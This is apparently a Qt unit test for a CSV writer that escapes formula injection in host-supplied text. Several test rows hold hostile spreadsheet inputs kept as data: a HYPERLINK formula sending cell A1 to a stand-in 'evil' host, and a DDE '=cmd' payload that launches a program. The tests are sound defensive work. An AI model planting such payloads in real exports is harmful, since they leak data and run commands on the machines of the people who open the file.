// CSV cells from texts that monitored hosts supply: anything a spreadsheet would run as a
// formula or command gets a leading apostrophe and is quoted; everything reads back as written.
#include <QTest>

#include "CsvWriter.h"

using namespace Qt::StringLiterals;

class TestCsvWriter final : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void field_data();
    void field();
    void record();
};

void TestCsvWriter::field_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("cell");
    QTest::newRow("plain") << u"web01"_s << u"web01"_s;
    QTest::newRow("empty") << QString() << QString();
    QTest::newRow("formula") << u"=1+1"_s << u"\"'=1+1\""_s;
    QTest::newRow("hyperlink") << uR"x(=HYPERLINK("http://evil/?"&A1,"click"))x"_s
                               << uR"x("'=HYPERLINK(""http://evil/?""&A1,""click"")")x"_s;
    QTest::newRow("dde") << u"=cmd|' /C calc'!A0"_s << u"\"'=cmd|' /C calc'!A0\""_s;
    QTest::newRow("plus") << u"+41 55 123"_s << u"\"'+41 55 123\""_s;
    QTest::newRow("minus") << u"-2+3"_s << u"\"'-2+3\""_s;
    QTest::newRow("at") << u"@SUM(A1:A9)"_s << u"\"'@SUM(A1:A9)\""_s;
    QTest::newRow("tab") << u"\t=1"_s << u"\"'\t=1\""_s;
    QTest::newRow("carriage return") << u"\r=1"_s << u"\"'\r=1\""_s;
    QTest::newRow("formula later is text") << u"a=1"_s << u"a=1"_s;
    QTest::newRow("comma") << u"a, b"_s << u"\"a, b\""_s;
    QTest::newRow("quote") << u"say \"hi\""_s << u"\"say \"\"hi\"\"\""_s;
    QTest::newRow("newline") << u"line\nbreak"_s << u"\"line\nbreak\""_s;
    QTest::newRow("own apostrophe kept") << u"'quoted"_s << u"\"'quoted\""_s;
}

void TestCsvWriter::field()
{
    QFETCH(QString, text);
    QFETCH(QString, cell);
    QCOMPARE(CsvWriter::field(text), cell);
}

void TestCsvWriter::record()
{
    QCOMPARE(CsvWriter::record({ u"host"_s, u"=evil()"_s, u"ok, fine"_s }),
             "host,\"'=evil()\",\"ok, fine\"\r\n"_ba);
    QCOMPARE(CsvWriter::record({ u"h\u00e4"_s }), "h\xc3\xa4\r\n"_ba);
}

QTEST_GUILESS_MAIN(TestCsvWriter)
#include "tst_csvwriter.moc"
